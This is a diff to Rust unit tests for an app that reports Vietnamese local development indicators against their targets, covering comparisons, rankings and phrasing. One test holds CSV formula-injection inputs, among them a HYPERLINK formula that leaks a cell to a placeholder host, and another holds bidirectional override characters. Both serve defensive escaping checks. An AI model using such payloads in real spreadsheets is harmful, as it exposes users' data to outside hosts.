@@ -90,7 +90,11 @@ fn indicator_detail_for_bến_sung_income_derives_the_target_and_says_it() {
     assert_eq!(detail.status, Some(Status::NotAchieved));
     assert_eq!(
         detail.bullet.description,
-        "Thu nhập bình quân đầu người, Thị trấn Bến Sung, 2020-2025: mục tiêu 87\u{a0}triệu đồng/người/năm (suy ra từ kết quả), đạt ước 76,6\u{a0}triệu đồng/người/năm (2025) (88,05\u{a0}%) — không đạt."
+        "Thu nhập bình quân đầu người, Thị trấn Bến Sung, 2020-2025: mục tiêu 87\u{a0}triệu đồng/người/năm, kết quả ước 76,6\u{a0}triệu đồng/người/năm (2025) (88,05\u{a0}% mục tiêu) — không đạt."
+    );
+    assert_eq!(
+        detail.findings,
+        ["Nguồn không ghi mục tiêu này. Mục tiêu 87\u{a0}triệu đồng/người/năm được suy ra từ kết quả (ước 76,6\u{a0}triệu đồng/người/năm (2025)), mà nguồn nói là đạt 88,05\u{a0}% kế hoạch."]
     );
     assert_eq!(detail.provenance.len(), 1);
     assert!(detail.provenance[0].quote.contains("76,6 triệu đồng"));
@@ -122,20 +126,29 @@ fn a_baseline_and_a_later_year_make_an_in_term_series() {
 }
 
 #[test]
-fn compare_puts_localities_side_by_side_across_terms_when_one_term_has_too_few() {
+fn compare_puts_localities_side_by_side_within_the_term_and_across_terms_only_when_asked() {
     let dataset = default_dataset();
     let comparable: Vec<&str> = comparable_indicators(&dataset).iter().map(|i| i.id.as_str()).collect();
     assert!(comparable.contains(&"poverty-rate") && comparable.contains(&"health-insurance"), "{comparable:?}");
+    let in_2020: Vec<&str> =
+        comparable_indicators_in_term(&dataset, "2020-2025").iter().map(|i| i.id.as_str()).collect();
+    assert!(in_2020.contains(&"poverty-rate") && !in_2020.contains(&"cultural-families"), "{in_2020:?}");
     // Two localities report poverty in 2020-2025: Bến Sung's result beside Chợ Mới's target.
     let in_term = compare(&dataset, "poverty-rate", Some("2020-2025"), Lang::Vi).unwrap();
     let labels: Vec<&str> = in_term.columns.iter().map(|column| column.label.as_str()).collect();
     assert_eq!(labels, ["Thị trấn Bến Sung 2020-2025", "Huyện Chợ Mới 2020-2025"]);
     assert_eq!((in_term.columns[0].value, in_term.columns[1].target), (Some(1.1), Some(4.0)));
-    // Only Kbang reports cultural families in 2015-2020: the comparison spans the terms.
-    let across = compare(&dataset, "cultural-families", Some("2015-2020"), Lang::Vi).unwrap();
+    // Only Kbang reports cultural families in 2015-2020: the term's one column, no other term's.
+    let alone = compare(&dataset, "cultural-families", Some("2015-2020"), Lang::Vi).unwrap();
+    let labels: Vec<&str> = alone.columns.iter().map(|column| column.label.as_str()).collect();
+    assert_eq!(labels, ["Thị trấn Kbang 2015-2020"]);
+    assert!(alone.title.contains("2015-2020"), "{}", alone.title);
+    // Across the terms only when no term is asked for.
+    let across = compare(&dataset, "cultural-families", None, Lang::Vi).unwrap();
     let labels: Vec<&str> = across.columns.iter().map(|column| column.label.as_str()).collect();
     assert_eq!(labels, ["Thị trấn Kbang 2015-2020", "Thị trấn Bến Sung 2020-2025", "Thị trấn Bến Sung 2025-2030"]);
     assert!(across.title.contains("các nhiệm kỳ"));
+    assert!(compare(&dataset, "cultural-families", Some("1990-1995"), Lang::Vi).is_none());
 }
 
 #[test]
@@ -161,7 +174,7 @@ fn target_phrases_cover_every_shape() {
         results: vec![],
         stated_status: None,
     };
-    let phrase = |shape: TargetShape| target_phrase(Some(&shape), None, false, "%", &record, Lang::Vi);
+    let phrase = |shape: TargetShape| target_phrase(Some(&shape), None, "%", &record, Lang::Vi);
     assert_eq!(phrase(TargetShape::AtLeast { value: 96.0 }), "≥ 96\u{a0}%");
     assert_eq!(phrase(TargetShape::Below { value: 4.0 }), "< 4\u{a0}%");
     assert_eq!(phrase(TargetShape::CountOfTotal { count: 14.0, total: 16.0 }), "14/16 %");
@@ -169,4 +182,213 @@ fn target_phrases_cover_every_shape() {
     assert_eq!(phrase(TargetShape::ChangePerYear { value: -0.09 }), "giảm 0,09\u{a0}%");
     assert_eq!(phrase(TargetShape::AverageGrowth { value: 12.0 }), "tăng bình quân 12 %/năm");
     assert_eq!(phrase(TargetShape::Range { min: 1.0, max: 2.0 }), "1–2\u{a0}%");
+}
+
+#[test]
+fn csv_neutralises_cells_a_spreadsheet_would_run_as_formulas_but_keeps_numbers() {
+    use crate::chart::{Cell, Table};
+    let hostile = ["=HYPERLINK(\"http://x/?leak=\"&A2,\"Bấm vào đây\")", "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"];
+    let table = Table {
+        caption: String::new(),
+        headers: vec!["=header".into(), "Giá trị".into()],
+        rows: hostile.iter().map(|text| vec![Cell::text(*text), Cell::number("-0,09 %", -0.09)]).collect(),
+    };
+    let csv = table.to_csv();
+    let lines: Vec<&str> = csv.trim_start_matches('\u{feff}').split("\r\n").filter(|line| !line.is_empty()).collect();
+    assert_eq!(lines[0], "'=header,Giá trị");
+    for line in &lines[1..] {
+        let first = line.trim_start_matches('"');
+        assert!(first.starts_with('\''), "neutralised: {line:?}");
+        assert!(line.ends_with(",-0,09 %") || line.ends_with(",\"-0,09 %\""), "numbers stay numbers: {line:?}");
+    }
+    assert_eq!(crate::chart::neutralise_formula("Tỷ lệ hộ nghèo"), "Tỷ lệ hộ nghèo");
+}
+
+/// The sample dataset with reductions written as negative numbers, a bound met by a negative
+/// result, and a result far worse than its target.
+fn negative_figures() -> DatasetIndex {
+    let mut json = crate::load::tests::valid_json();
+    let source = serde_json::json!({"source": "s1", "quote": "q"});
+    let indicator = |id: &str, direction: &str| {
+        serde_json::json!({"id": id, "name": {"vi": id}, "domain": "economy", "unit": {"vi": "%"},
+                           "direction": direction, "kind": "rate"})
+    };
+    let record = |id: &str, shape: &str, target: f64, result: f64| {
+        serde_json::json!({"locality": "l1", "indicator": id, "term": "2020-2025",
+                           "target": {"shape": shape, "value": target, "source": source},
+                           "results": [{"value": result, "source": source}]})
+    };
+    for (id, direction) in
+        [("poverty-change", "lower_is_better"), ("births", "lower_is_better"), ("malnutrition", "lower_is_better")]
+    {
+        json["indicators"].as_array_mut().unwrap().push(indicator(id, direction));
+    }
+    let records = json["records"].as_array_mut().unwrap();
+    records.push(record("poverty-change", "change_per_year", -0.09, -0.1));
+    records.push(record("births", "at_most", 0.5, -0.2));
+    records.push(record("malnutrition", "level", 1.0, 3.0));
+    DatasetIndex::new(load(&json.to_string()).into_valid().unwrap())
+}
+
+#[test]
+fn the_ranking_orders_by_the_documented_percent_and_names_the_worst_as_lowest() {
+    let chart = ranking(&negative_figures(), "l1", "2020-2025", &Filter::default(), Lang::En);
+    let order: Vec<(&str, Option<Status>)> = chart.bars.iter().map(|bar| (bar.key.as_str(), bar.status)).collect();
+    assert_eq!(
+        order,
+        [
+            ("births", Some(Status::Exceeded)),
+            ("poverty-change", Some(Status::Exceeded)),
+            ("insured", Some(Status::Exceeded)),
+            ("income", Some(Status::NotAchieved)),
+            ("malnutrition", Some(Status::NotAchieved)),
+        ]
+    );
+    let values: Vec<String> = chart.bars.iter().map(|bar| bar.value_text.clone()).collect();
+    assert_eq!(values, ["240\u{a0}%", "111.11\u{a0}%", "100.63\u{a0}%", "88.05\u{a0}%", "-100\u{a0}%"]);
+    for bar in &chart.bars {
+        let met = bar.status.is_some_and(Status::is_met);
+        assert_eq!(met, bar.value >= 100.0, "{}: the status and the percent agree", bar.key);
+    }
+    assert!(
+        chart.description.ends_with("the lowest is malnutrition at -100\u{a0}% of target."),
+        "{}",
+        chart.description
+    );
+    assert_eq!((chart.axis_min, chart.axis_max), (-100.0, 200.0));
+}
+
+#[test]
+fn qualitative_bands_run_from_poor_to_good_in_the_better_direction() {
+    use crate::evaluate::percent_of_target;
+    use crate::model::Direction;
+    let quality_of = |percent: f64| match percent {
+        percent if percent < 50.0 => BandQuality::Poor,
+        percent if percent < 90.0 => BandQuality::Fair,
+        _ => BandQuality::Good,
+    };
+    let rank = |quality: BandQuality| match quality {
+        BandQuality::Poor => 0,
+        BandQuality::Fair => 1,
+        BandQuality::Good => 2,
+    };
+    for better in [Direction::HigherIsBetter, Direction::LowerIsBetter, Direction::TargetIsBest] {
+        for target in [87.0_f64, -1.3] {
+            let axis = (target.min(0.0) * 3.0 - 1.0, target.max(0.0) * 3.0 + 1.0);
+            let bands = super::indicator::qualitative_bands(target, better, axis);
+            let case = format!("{better:?}, target {target}");
+            assert_eq!(bands.first().map(|band| band.from), Some(axis.0), "{case}: from the axis start");
+            assert_eq!(bands.last().map(|band| band.to), Some(axis.1), "{case}: to the axis end");
+            assert!(bands.windows(2).all(|pair| pair[0].to == pair[1].from), "{case}: contiguous");
+            for band in &bands {
+                let middle = (band.from + band.to) / 2.0;
+                let percent = percent_of_target(middle, target, better).unwrap();
+                assert_eq!(band.quality, quality_of(percent), "{case}: {band:?} at {percent} %");
+            }
+            let ranks: Vec<i32> = bands.iter().map(|band| rank(band.quality)).collect();
+            match better {
+                Direction::HigherIsBetter => assert!(ranks.windows(2).all(|pair| pair[0] < pair[1]), "{case}"),
+                Direction::LowerIsBetter => assert!(ranks.windows(2).all(|pair| pair[0] > pair[1]), "{case}"),
+                Direction::TargetIsBest => {
+                    let good = bands.iter().find(|band| band.quality == BandQuality::Good).unwrap();
+                    assert!(good.from < target && target < good.to, "{case}: good around the target");
+                }
+            }
+        }
+        assert!(super::indicator::qualitative_bands(0.0, better, (-1.0, 1.0)).is_empty(), "no % of a zero target");
+    }
+}
+
+#[test]
+fn a_derived_target_is_explained_once_in_the_findings_and_nowhere_else() {
+    let index = default_dataset();
+    for lang in [Lang::Vi, Lang::En] {
+        let marker = lang.pick("suy ra", "derived");
+        let explanation = lang.pick("Nguồn không ghi mục tiêu này.", "The source does not state this target.");
+        for (locality, term) in index.locality_terms() {
+            for row in index.rows(locality, term) {
+                let detail = indicator_detail(&index, locality, term, &row.indicator.id, lang).unwrap();
+                let explained = detail.findings.iter().filter(|finding| finding.starts_with(explanation)).count();
+                let expected = usize::from(row.evaluation.target_derived);
+                assert_eq!(explained, expected, "{locality} {term} {}: {:?}", row.indicator.id, detail.findings);
+                let elsewhere =
+                    [&detail.bullet.description, &detail.bullet.target_label, &detail.across_terms.description];
+                assert!(elsewhere.iter().all(|text| !text.contains(marker)), "{locality} {term} {}", row.indicator.id);
+            }
+        }
+        for slide in crate::slides::slides(&index, lang) {
+            assert!(!slide.title.contains(marker) && !slide.sentence.contains(marker), "{}", slide.title);
+        }
+    }
+    let growth = indicator_detail(&index, "ben-sung", "2020-2025", "production-value-growth", Lang::En).unwrap();
+    assert!(
+        growth.findings[0].ends_with("which the source says exceeds the target by 6.7\u{a0}%."),
+        "{:?}",
+        growth.findings
+    );
+}
+
+#[test]
+fn a_unit_per_year_is_not_followed_by_per_year_again() {
+    let record = Record {
+        locality: "l".into(),
+        indicator: "i".into(),
+        term: "t".into(),
+        target: None,
+        results: vec![],
+        stated_status: None,
+    };
+    let average = TargetShape::AnnualAverage { value: 25000.0 };
+    let cases = [
+        // (unit, language, phrase)
+        ("tấn/năm", Lang::Vi, "bình quân 25.000\u{a0}tấn/năm"),
+        ("tấn", Lang::Vi, "bình quân 25.000\u{a0}tấn mỗi năm"),
+        ("tonnes/year", Lang::En, "25,000\u{a0}tonnes/year on average"),
+        ("tonnes", Lang::En, "25,000\u{a0}tonnes a year on average"),
+        ("triệu đồng/người/năm", Lang::Vi, "bình quân 25.000\u{a0}triệu đồng/người/năm"),
+    ];
+    for (unit, lang, expected) in cases {
+        assert_eq!(target_phrase(Some(&average), None, unit, &record, lang), expected);
+    }
+}
+
+#[test]
+fn a_missing_result_is_not_called_a_result_that_is_no_result() {
+    let index = default_dataset();
+    for lang in [Lang::Vi, Lang::En] {
+        let repeated = lang.pick("kết quả chưa có kết quả", "result no result");
+        for (locality, term) in index.locality_terms() {
+            for row in index.rows(locality, term) {
+                let detail = indicator_detail(&index, locality, term, &row.indicator.id, lang).unwrap();
+                let no_result = lang.pick("chưa có kết quả", "no result");
+                for text in [&detail.bullet.description, &detail.across_terms.description] {
+                    assert!(!text.to_lowercase().contains(repeated), "{text}");
+                    assert!(text.to_lowercase().matches(no_result).count() <= 1, "{text}");
+                }
+            }
+        }
+    }
+    // Kbang's 2015-2020 targets have no result and are overdue: the sentence says so once.
+    let detail = indicator_detail(&index, "kbang", "2015-2020", "poverty-rate", Lang::Vi).unwrap();
+    assert_eq!(detail.status, Some(Status::NoResult));
+    assert!(
+        detail.bullet.description.ends_with("mục tiêu 1,44\u{a0}%; chưa có kết quả."),
+        "{}",
+        detail.bullet.description
+    );
+    assert!(
+        detail.across_terms.description.contains("2015-2020: mục tiêu 1,44\u{a0}%, kết quả chưa có"),
+        "{}",
+        detail.across_terms.description
+    );
+}
+
+#[test]
+fn a_name_with_direction_controls_is_isolated_from_the_apps_own_text() {
+    use crate::chart::isolate_direction;
+    assert_eq!(isolate_direction("Thị trấn Bến Sung"), "Thị trấn Bến Sung", "ordinary names are unchanged");
+    for name in ["\u{202E}đảo ngược", "مدينة", "שלום", "a\u{200F}b", "\u{2067}x"] {
+        let isolated = isolate_direction(name);
+        assert!(isolated.starts_with('\u{2068}') && isolated.ends_with('\u{2069}'), "{name:?} → {isolated:?}");
+    }
 }
